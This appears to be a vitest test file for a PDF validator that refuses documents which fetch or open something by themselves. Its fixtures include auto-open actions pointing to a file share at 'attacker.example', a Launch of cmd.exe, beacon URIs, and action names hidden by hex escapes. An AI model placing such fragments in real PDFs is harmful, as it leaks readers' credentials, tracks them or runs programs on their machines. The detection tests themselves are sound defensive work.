import { describe, expect, test } from 'vitest';
import { pdfStream, textPdf } from '../../../testing/sample-documents.ts';
import { judgePdf } from './judge-pdf.ts';

const catalog = (entries: string) => `<</Type/Catalog/Pages 2 0 R${entries}>>`;
const page = (entries: string) => `<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R${entries}>>`;
const uri = '<</S/URI/URI(https://beacon.example)>>';
const share = '(\\\\\\\\attacker.example\\\\share\\\\a.pdf)';

describe('a PDF that fetches or opens something by itself is refused', () => {
  // documents.content.1
  test.each<[string, string, Record<number, string | Buffer>]>([
    ['another file on opening', 'action', { 1: catalog(`/OpenAction<</S/GoToR/F${share}/D[0/Fit]>>`) }],
    ['another file by a link', 'action', { 3: page(`/Annots[<</Subtype/Link/A<</S/GoToR/F${share}>>>>]`) }],
    ['another file under an escaped name', 'action', { 1: catalog(`/OpenAction<</S/Go#54o#52/F${share}>>`) }],
    ['a file inside another', 'action', { 1: catalog(`/OpenAction<</S/GoToE/F${share}>>`) }],
    ['articles of another file', 'action', { 1: catalog(`/OpenAction<</S/Thread/F${share}/D 0>>`) }],
    ['articles of another file under an escaped name', 'action', { 1: catalog(`/OpenAction<</S/Thr#65ad/#46${share}/D 0>>`) }],
    ['a program', 'action', { 3: page('/Annots[<</Subtype/Link/A<</S/Launch/F(cmd.exe)>>>>]') }],
    ['data to import', 'action', { 1: catalog(`/OpenAction<</S/ImportData/F${share}>>`) }],
    ['a form to send', 'action', { 3: page('/AA<</O<</S/SubmitForm/F(https://example.com)>>>>') }],
    ['an address on opening', 'action', { 1: catalog(`/OpenAction${uri}`) }],
    ['an address on opening, elsewhere in the file', 'action', { 1: catalog('/OpenAction 6 0 R'), 6: uri }],
    ['an address on opening, under escaped names', 'action', { 1: catalog('/Open#41ction<</#53/#55RI/URI(https://beacon.example)>>') }],
    ['an address behind another action', 'action', { 1: catalog(`/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next ${uri}>>`) }],
    ['an address in a list of actions behind another', 'action', { 1: catalog(`/OpenAction<</S/Named/N/NextPage/Next[6 0 R]>>`), 6: uri }],
    ['an address as a page opens', 'action', { 3: page(`/AA<</O ${uri}>>`) }],
    ['an address as the pointer passes', 'action', { 3: page(`/Annots[<</Subtype/Link/AA<</E 6 0 R>>>>]`), 6: uri }],
    ['content of another file', 'linked', { 4: pdfStream('/F(https://example.com/page)', Buffer.alloc(0)) }],
    ['content of another file, described', 'linked', { 4: pdfStream('/F<</FS/URL/F(https://example.com/page)>>', Buffer.alloc(0)) }],
    [
      'content of another file, elsewhere in the file',
      'linked',
      { 4: pdfStream('/#46 6 0 R', Buffer.alloc(0)), 6: '(https://example.com)' },
    ],
    ['a picture of a page of another file', 'linked', { 4: pdfStream('/Ref<</F(a.pdf)/Page 0>>', Buffer.alloc(0)) }],
    ['a description of another file', 'linked', { 1: catalog('/AF[6 0 R]'), 6: '<</Type/Filespec/F(https://example.com/a)>>' }],
  ])('%s: %s', async (_what, refusal, objects) => {
    expect(await judgePdf(textPdf(objects))).toBe(refusal);
  });
});

describe('a PDF that does so only when someone follows a link is accepted', () => {
  test.each<[string, Record<number, string | Buffer>]>([
    ['a link to a web page', { 3: page(`/Annots[<</Subtype/Link/Rect[0 0 9 9]/A ${uri}>>]`) }],
    ['a link in an outline', { 1: catalog('/Outlines 6 0 R'), 6: `<</First<</Title(Site)/A ${uri}>>>>` }],
    ['a page that opens first', { 1: catalog('/OpenAction[3 0 R/Fit]'), 3: page(`/Annots[<</Subtype/Link/A ${uri}>>]`) }],
    [
      'a page that opens first by an action',
      { 1: catalog('/OpenAction<</S/GoTo/D[3 0 R/Fit]>>'), 3: page(`/Annots[<</Subtype/Link/A ${uri}>>]`) },
    ],
    ['actions that follow one another in a circle', { 1: catalog('/OpenAction 6 0 R'), 6: '<</S/GoTo/D[3 0 R/Fit]/Next 6 0 R>>' }],
    ['articles of its own', { 1: catalog('/Threads[6 0 R]'), 6: '<</Type/Thread/I<</Title(A)>>>>' }],
    ['a field with flags, a font called F', { 3: page('/Annots[<</Subtype/Link/F 4>>]/Resources<</Font<</F 5 0 R>>>>') }],
  ])('%s', async (_what, objects) => {
    expect(await judgePdf(textPdf(objects))).toBeNull();
  });
});
